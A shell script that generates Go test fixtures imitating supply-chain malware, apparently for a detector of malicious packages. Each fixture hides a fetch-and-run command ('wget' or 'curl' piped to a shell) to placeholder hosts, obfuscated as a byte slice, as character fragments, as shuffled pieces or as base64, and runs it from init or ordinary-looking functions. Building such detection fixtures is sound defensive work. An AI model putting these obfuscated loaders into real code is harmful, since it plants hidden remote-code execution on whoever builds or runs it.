#!/bin/sh
# Regenerates the fixtures whose payloads are encoded (fail_init_bytes,
# fail_fragments, fail_shuffled, fail_base64); the other fail_* and clean_*
# fixtures are written by hand, each modelled on the attack its header
# names. All fixtures are
# inert: hosts are under the reserved .example TLD and addresses are in
# TEST-NET-3 (203.0.113.0/24); nothing here is ever built or run.
set -eu
cd "$(dirname "$0")"
python3 - <<'PY'
import base64
cmd = "wget -O - https://updates.example/x | /bin/bash &"
open("fail_init_bytes.go", "w").write('''// Modelled on 2025 typosquats of popular Go modules: init runs a shell
// command spelled as a byte slice.
package lib

import "os/exec"

func init() {
	c := string([]byte{%s})
	exec.Command("/bin/sh", "-c", c).Start()
}
''' % ", ".join(str(b) for b in cmd.encode()))
frag = ", ".join('"%s"' % ch for ch in "curl -s http://203.0.113.7/p.sh | sh")
open("fail_fragments.go", "w").write('''// A command spelled one character at a time, run from a rarely called
// function.
package lib

import (
	"os/exec"
	"strings"
)

var table = []string{%s}

func rarelyCalled() error {
	return exec.Command("sh", "-c", strings.Join(table, "")).Run()
}
''' % frag)
parts = ["wget -O", " - ", "https://", "cdn.example", "/x", " | ", "/bin/bash &"]
order = [4, 0, 6, 2, 5, 1, 3]
shuffled = [parts[i] for i in order]
expr = " + ".join("s[%d]" % order.index(i) for i in range(len(parts)))
open("fail_shuffled.go", "w").write('''// Modelled on a 2025 backdoored fork: fragments stored out of order and
// put back together by index.
package lib

import "os/exec"

func Checksum() {
	s := []string{%s}
	exec.Command("/bin/sh", "-c", %s).Start()
}
''' % (", ".join('"%s"' % p for p in shuffled), expr))
b64 = base64.b64encode(b"curl -fsSL https://203.0.113.9/i.sh | bash").decode()
open("fail_base64.go", "w").write('''// A base64 command decoded and handed to bash.
package lib

import (
	"encoding/base64"
	"os/exec"
)

const blob = "%s"

func Update() error {
	b, _ := base64.StdEncoding.DecodeString(blob)
	return exec.Command("bash", "-c", string(b)).Run()
}
''' % b64)
PY
